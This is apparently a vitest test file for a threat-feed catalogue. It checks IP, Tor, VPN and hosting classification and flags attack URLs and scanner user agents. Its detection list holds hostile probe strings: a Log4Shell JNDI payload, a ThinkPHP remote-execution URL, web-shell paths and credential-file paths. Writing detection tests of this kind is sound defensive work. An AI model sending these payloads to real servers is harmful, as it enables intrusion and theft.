import { existsSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { systemClock } from "@/lib/base/clock";
import { ip } from "@/test/feeds/feeds";
import { hasMirror, MIRROR, MIRROR_MADE, openMirrorStore } from "@/test/feeds/mirror-store";
import { ORDINARY_URLS } from "@/test/feeds/ordinary-urls";
import { ORDINARY_USER_AGENTS } from "@/test/feeds/ordinary-user-agents";
import { PEOPLE } from "@/test/intel/user-agents/people";
import { readFeeds } from "./feeds-file";
import type { FeedStoreHandle } from "./store";
import type { FeedCategory } from "./types";

/* The whole catalogue against a stored copy of the real files, where there is one beside the project. */
/** The feeds of which the copy has a file. */
const mirrored = readFeeds(undefined).flatMap(({ id, url }) => {
  const { host, pathname } = new URL(url);
  return existsSync(join(MIRROR, host, pathname)) ? [id] : [];
});
if (!hasMirror)
  console.info(`skipped: the catalogue against real files, since there is no ${MIRROR}`);

const BLOCKING: readonly FeedCategory[] = [
  "threat-feeds",
  "ip-database",
  "malicious-activity",
  "vpn",
  "proxy",
  "tor",
];

describe.skipIf(!hasMirror)("the catalogue on real files", () => {
  let opened: FeedStoreHandle;
  beforeAll(async () => {
    opened = await openMirrorStore({ ...systemClock, now: () => MIRROR_MADE });
  });

  const matches = (address: string) => opened.current().find(ip(address)).lists;
  const categories = (address: string) => matches(address).map(({ category }) => category);

  it("loads every switched-on feed without a bad line; the copy's age makes some stale", () => {
    const notGood = opened
      .status()
      .filter(({ id }) => mirrored.includes(id))
      .filter(({ state, reason }) => state !== "fresh" || reason !== null)
      .filter(({ reason }) => !/^its newest data is \d+ days old/.test(reason ?? ""));
    expect(notGood).toEqual([]);
  });

  it.each([
    ["8.8.8.8", 15169],
    ["73.223.10.20", 33651],
    ["172.56.21.89", 21928],
    ["114.124.200.1", 23693],
    ["88.198.50.10", 24940],
    ["185.220.101.5", 60729],
    ["2a01:4f8::1", 24940],
    ["2607:fb90::1", 21928],
  ])("%s is announced by AS%i", (address, asn) => {
    expect(opened.current().find(ip(address)).network?.asn).toBe(asn);
  });

  it("knows a Tor exit as Tor and VPN, with the entries", () => {
    const found = matches("185.220.101.5").map(({ category, entry }) => `${category} ${entry}`);
    expect(found).toContain("tor 185.220.101.5");
    expect(found).toContain("vpn 185.220.101.0/24");
    expect(found).toContain("threat-feeds 185.220.101.5");
  });

  it("knows anycast, hosting, cellular networks and search engines", () => {
    expect(categories("8.8.8.8")).toEqual(expect.arrayContaining(["anycast", "hosting"]));
    expect(categories("88.198.50.10")).toContain("hosting");
    expect(categories("2a01:4f8::1")).toContain("hosting");
    const cellular = opened
      .current()
      .asnLists(21928)
      .map(({ category }) => category);
    expect(cellular).toEqual(["asn-cellular"]);
    const engines = matches("66.249.66.1").filter(({ category }) => category === "search-engine");
    expect(engines.map(({ name, entry }) => `${name} ${entry}`)).toEqual(["Google 66.249.66.0/24"]);
  });

  it.each([
    ["a home", "73.223.10.20"],
    ["a phone", "172.56.21.89"],
    ["a phone in Indonesia", "114.124.200.1"],
    ["Googlebot", "66.249.66.1"],
    ["Bing's crawler", "40.77.167.1"],
    ["Google's resolver", "8.8.8.8"],
    ["Cloudflare's resolver", "1.1.1.1"],
    ["Quad9", "9.9.9.9"],
    ["an office behind Check Point's gateway", "64.226.128.5"],
    ["a home in Brazil", "186.247.10.9"],
    ["a home in the United Kingdom", "51.146.10.9"],
    ["a private address", "192.168.1.1"],
  ])("does not hold %s for a threat (%s)", (_, address) => {
    expect(categories(address).filter((category) => BLOCKING.includes(category))).toEqual([]);
  });

  it.each([
    ["V.tal, Brazil", "186.247.35.9"],
    ["V.tal, Brazil", "187.15.118.77"],
    ["Sky, United Kingdom", "51.146.220.9"],
    ["Sunrise, Switzerland", "178.83.99.9"],
  ])("knows a block that %s leased to a VPN company (%s)", (_, address) => {
    expect(categories(address)).toContain("vpn");
  });

  it.each(ORDINARY_URLS.map((url) => [url]))("does not take %s for an attack", (url) => {
    expect(opened.current().threatUrl(url)).toBeNull();
  });

  it.each(
    [
      "https://shop.example/.s3cfg",
      "https://shop.example/.mysql_history",
      "https://shop.example/wp-content/uploads/c99.php",
      "https://shop.example/alfa-rex.php",
      "https://shop.example/?x=\u0024{jndi:ldap://203.0.113.1/a}",
      "https://shop.example/?file=c:/boot.ini",
      "https://shop.example/index.php?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=x",
      "https://shop.example/boaform/admin/formLogin",
      "https://shop.example/_ignition/execute-solution",
    ].map((url) => [url]),
  )("takes %s for an attack", (url) => {
    expect(opened.current().threatUrl(url)?.category).toBe("threat-url");
  });

  it.each([...ORDINARY_USER_AGENTS, ...Object.values(PEOPLE).flat()].map((ua) => [ua]))(
    "does not take a person for a bad bot: %s",
    (ua) => {
      expect(opened.current().userAgent(ua)).toBeNull();
    },
  );

  it.each(
    [
      "sqlmap/1.7.2#stable (https://sqlmap.org)",
      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
      "Mozilla/5.0 zgrab/0.x",
      "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)",
      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
      "gobuster/3.1.0",
      "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
      "Scrapy/2.11.0 (+https://scrapy.org)",
      "Mozilla/3.0 (compatible; Indy Library)",
      "Morfeus Fucking Scanner",
    ].map((ua) => [ua]),
  )("takes %s for a bad bot", (ua) => {
    expect(opened.current().userAgent(ua)?.category).toBe("user-agent");
  });

  it.each([
    ["Free's subscribers", "78.224.0.9"],
    ["BT's", "2.24.0.9"],
    ["offices behind Zscaler", "165.225.0.9"],
  ])("does not hold %s for hosting (%s)", (_, address) => {
    expect(categories(address)).not.toContain("hosting");
  });

  it.each([
    ["GPTBot/1.3", "aiTraining"],
    ["Mozilla/5.0 (compatible; FreshRSS/1.27)", "feedReader"],
    ["Iframely/1.3.1 (+https://iframely.com/docs/about)", "preview"],
    ["StatusCake", "monitor"],
    ["python-requests/2.32.5", "library"],
  ])("names what %s is: %s", (ua, kind) => {
    expect(opened.current().programs(ua)[0]?.kind).toBe(kind);
  });

  it("knows disposable domains, and not the big mail providers", () => {
    expect(opened.current().disposableDomain("mailinator.com")?.feed).toBe(
      "disposable-email-domains",
    );
    for (const domain of ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "icloud.com"]) {
      expect(opened.current().disposableDomain(domain)).toBeNull();
    }
  });
});
